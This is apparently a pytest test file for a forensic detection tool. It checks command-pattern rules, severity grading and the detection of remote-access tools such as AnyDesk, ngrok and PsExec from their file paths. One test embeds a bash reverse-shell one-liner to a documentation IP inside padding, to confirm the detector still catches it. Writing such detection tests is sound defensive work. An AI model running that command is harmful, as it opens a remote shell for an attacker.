"""The tables of answers: every pattern with samples that fire and that do not, no word without a meaning."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from memory_case import MemoryCase

from forensics.answers import grade
from forensics.answers.patterns import MAX_COMMAND, fitting, rules
from forensics.answers.remote_tools import RemoteTools, tools
from forensics.answers.run import answers

ROOT = Path(__file__).resolve().parents[2]
COMMANDS = grade.table("commands")["command"]


def systems(row):
    return ("linux", "windows") if row["os"] == "any" else (row["os"],)


@pytest.mark.parametrize("row", COMMANDS, ids=lambda row: f"{row['os']}-{row['id']}")
def test_each_command_pattern_fires_and_is_silent(row):
    assert row["fires"] and row["silent"] and row["why"] and row["source"]
    for system in systems(row):
        for text in row["fires"]:
            assert row["id"] in [rule.id for rule, _ in fitting(text, system)], text
        for text in row["silent"]:
            assert row["id"] not in [rule.id for rule, _ in fitting(text, system)], text


def test_ids_are_unique_for_each_system():
    names = [(system, row["id"]) for row in COMMANDS for system in systems(row)]
    assert len(names) == len(set(names)) and len(rules()) == len(COMMANDS) >= 30


def test_padding_does_not_hide_a_command():
    padded = "a" * 20_000 + "; bash -i >& /dev/tcp/192.0.2.1/4444 0>&1 " + "b" * 5000
    assert "reverse-shell" in [rule.id for rule, _ in fitting(padded, "linux")]
    assert len(padded) < MAX_COMMAND


def test_reasons_and_rules_are_used_and_known():
    """An orphan in the table, or a word in the code that the table has not, is an error."""
    table = grade.table("findings")
    code = "\n".join(path.read_text("utf-8") for path in (ROOT / "forensics" / "answers").glob("*.py"))
    words = set(re.findall(r'"([a-z0-9-]+)"', code)) | {row.get("reason", "") for row in COMMANDS}
    assert not set(table["reason"]) - words, "reasons that no code gives"
    assert not {name.split(".")[1] for name in table["rule"]} - words, "rules that no code gives"
    assert {row["level"] for row in table["reason"].values()} <= {"notice", "warning", "alert"}
    assert all(row["says"] for row in table["reason"].values())
    assert all(row["title"] and row["not_proof"] for row in table["rule"].values())
    assert {one for row in table["together"]["alert"] for one in row} <= set(table["reason"])
    prefixes = {name.split(".")[0] for name in table["rule"]}
    assert prefixes == {answer.id.removeprefix("answers.") for answer in answers()}


def test_levels_are_the_highest_reason_and_some_come_together():
    assert grade.level_of(["login-script"]) == "notice"
    assert grade.level_of(["login-script", "writable-place"]) == "warning"
    assert grade.level_of(["poses"]) == "alert"
    assert grade.level_of(["writable-place", "listens"]) == "alert"
    with pytest.raises(KeyError):
        grade.level_of(["no such reason"])


def test_a_finding_is_bounded_and_says_why():
    found = grade.finding("answers.gaps", "cleared", grade.Subject("x" * 5000), ["log-cleared", "log-cleared"])
    assert len(found.title) < 400 and found.why and found.not_proof
    assert found.attrs["reasons"] == {"log-cleared": "a log was cleared"} and found.level == "warning"


PATHS = {
    "AnyDesk": ["C:/ProgramData/AnyDesk/ad.trace", "/etc/anydesk/service.conf", "C:/Users/a/Downloads/AnyDesk.exe"],
    "TeamViewer": ["C:/Program Files/TeamViewer/TeamViewer15_Logfile.log"],
    "ScreenConnect (ConnectWise Control)": ["C:/Program Files (x86)/ScreenConnect Client (1a2b3c4d)/x.dll"],
    "RustDesk": ["/root/.config/rustdesk/RustDesk.toml"],
    "MeshAgent (MeshCentral)": ["/usr/local/mesh_services/meshagent"],
    "Atera": ["C:/Program Files/ATERA Networks/AteraAgent/AteraAgent.exe"],
    "ngrok": ["/root/.config/ngrok/ngrok.yml"],
    "Cloudflare tunnel": ["/root/.cloudflared/cert.pem"],
    "PsExec, PAExec, RemCom, CSExec": ["C:/Windows/PSEXESVC.exe"],
}


@pytest.mark.parametrize("name", PATHS)
def test_remote_tools_show_by_their_files(name):
    case = MemoryCase()
    for path in PATHS[name]:
        case.file(path, b"x")
    case.file("/usr/share/doc/anydesk/copyright", b"x")
    (found,) = RemoteTools().run(case)
    assert found.title.startswith(f"Remote-access tool: {name}") and found.attrs["count"] == len(PATHS[name])


def test_remote_tools_are_silent_on_ordinary_names():
    case = MemoryCase()
    for path in ("/usr/bin/vim", "/usr/lib/x86_64-linux-gnu/libvncclient.so.1", "/home/bob/level/notes.txt",
                 "C:/Windows/System32/svchost.exe", "/usr/bin/gostaudit", "/usr/sbin/sshd"):  # fmt: skip
        case.file(path, b"x")
    assert not list(RemoteTools().run(case))
    assert len({tool.name for tool in tools()}) == len(tools())
